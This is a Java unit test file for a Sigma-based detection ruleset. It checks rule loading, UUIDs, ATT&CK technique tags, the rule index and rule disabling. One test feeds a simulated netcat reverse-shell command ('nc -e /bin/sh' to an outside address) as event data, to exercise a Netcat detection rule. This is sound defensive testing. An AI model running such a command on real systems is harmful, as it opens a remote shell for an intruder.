package io.vmiscope.detect.sigma;

import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

class DefaultRulesetTest {

    @Test
    void everyDefaultRule_loads_withNothingUnsupportedOrMalformed() {
        RuleSet rules = Guest.defaults();
        assertThat(rules.malformed()).isEmpty();
        assertThat(rules.unsupported()).isEmpty();
        assertThat(rules.correlations()).hasSize(4);
        assertThat(rules.rules().stream().filter(SigmaRule::generates)).hasSize(16);
    }

    @Test
    void everyDefaultRule_hasAUuid_aLevel_andAnAttackTechnique() {
        RuleSet rules = Guest.defaults();
        rules.rules().stream().filter(SigmaRule::generates).forEach(r -> {
            assertThat(UUID.fromString(r.id()).toString()).isEqualTo(r.id());
            assertThat(r.techniques()).as(r.title()).isNotEmpty().allMatch(t -> t.matches("T\\d{4}(\\.\\d{3})?"));
        });
        rules.correlations().forEach(c -> {
            assertThat(UUID.fromString(c.id()).toString()).isEqualTo(c.id());
            assertThat(c.techniques()).as(c.title()).isNotEmpty();
        });
    }

    @Test
    void theIndex_listsEveryRuleFileOfTheResources() throws IOException, URISyntaxException {
        Path root = Path.of(RuleLoader.class.getClassLoader().getResource("rules").toURI());
        try (Stream<Path> files = Files.walk(root)) {
            List<String> present = files.filter(p -> p.toString().endsWith(".yml"))
                    .map(p -> root.relativize(p).toString().replace('\\', '/')).sorted().toList();
            assertThat(RuleLoader.defaultFiles()).containsExactlyInAnyOrderElementsOf(present);
        }
    }

    @Test
    void aDisabledRule_raisesNothing_andAnUnknownIdIsAOneLineError() {
        String netcat = Guest.defaults().rules().stream().filter(r -> r.title().startsWith("Netcat")).findFirst()
                .orElseThrow().id();
        RuleSet rules = RuleLoader.load(List.of(), true, Set.of(netcat));
        assertThat(Guest.titles(rules, Guest.exec(1, 50, 1, 0, "sh", "/bin/nc", "nc", "-e", "/bin/sh", "1.2.3.4", "80")))
                .noneMatch(t -> t.startsWith("Netcat"));
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> RuleLoader.load(List.of(), true, Set.of("nope")))
                .hasMessage("--disable names rule 'nope', which is not loaded");
    }
}
